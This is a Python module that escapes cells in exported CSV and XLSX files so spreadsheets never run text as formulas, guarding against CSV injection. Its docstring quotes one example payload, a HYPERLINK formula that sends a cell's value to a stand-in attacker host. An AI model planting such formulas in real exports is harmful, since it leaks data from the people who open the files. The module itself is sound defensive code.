"""Cells for files people open in a spreadsheet: text is never taken for a formula.

A spreadsheet runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` as a formula (and a
tab or carriage return in front of one is skipped), so a display name like
``=HYPERLINK("http://evil.example/?"&A1,"Click")`` would run on the reader's machine: CSV
or formula injection. Every CSV and XLSX the service writes goes through this module
(OWASP's rule for CSV injection):

- CSV: a text cell starting with one of those characters gets a single quote in front
  (``'=HYPERLINK(...)``), which spreadsheets show as text;
- XLSX: text is written as a string cell, never a formula, and such a cell is marked
  "quote prefix" (Excel's own "this is text" flag), so its value stays exactly the text.

Only text is escaped: numbers stay numbers (-2 is a number cell, not "'-2"). A reader of
a CSV the service wrote and people may hand back (the register import's rejects file)
takes the quote off again with ``unescape``.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable, Sequence
from typing import IO, Any

from openpyxl.cell.cell import Cell
from openpyxl.worksheet.worksheet import Worksheet

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def looks_like_formula(text: str) -> bool:
    return text.startswith(FORMULA_STARTS)


def csv_text(value: Any) -> Any:
    """A cell for a CSV: text that a spreadsheet would run gets a single quote in front;
    anything that is not text is left as it is."""
    if isinstance(value, str) and looks_like_formula(value):
        return "'" + value
    return value


def unescape(cell: str) -> str:
    """A CSV cell as it was before ``csv_text``: the added quote taken off again."""
    if cell.startswith("'") and looks_like_formula(cell[1:]):
        return cell[1:]
    return cell


class SafeWriter:
    """``csv.writer`` whose every text cell goes through ``csv_text``."""

    def __init__(self, out: IO[str], **options: Any) -> None:
        self._writer = csv.writer(out, **options)

    def writerow(self, row: Iterable[Any]) -> None:
        self._writer.writerow([csv_text(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(out: IO[str], **options: Any) -> SafeWriter:
    return SafeWriter(out, **options)


def xlsx_cell(sheet: Worksheet, value: Any) -> Cell | Any:
    """A cell for ``sheet.append``: text as a string cell (openpyxl otherwise takes text
    starting with "=" for a formula), with the quote-prefix flag when it looks like one."""
    if not isinstance(value, str):
        return value
    cell = Cell(sheet, value=value)
    cell.data_type = "s"
    if looks_like_formula(value):
        cell.quotePrefix = True
    return cell


def append_row(sheet: Worksheet, row: Sequence[Any]) -> None:
    """``sheet.append(row)`` with every text cell safe."""
    sheet.append([xlsx_cell(sheet, value) for value in row])
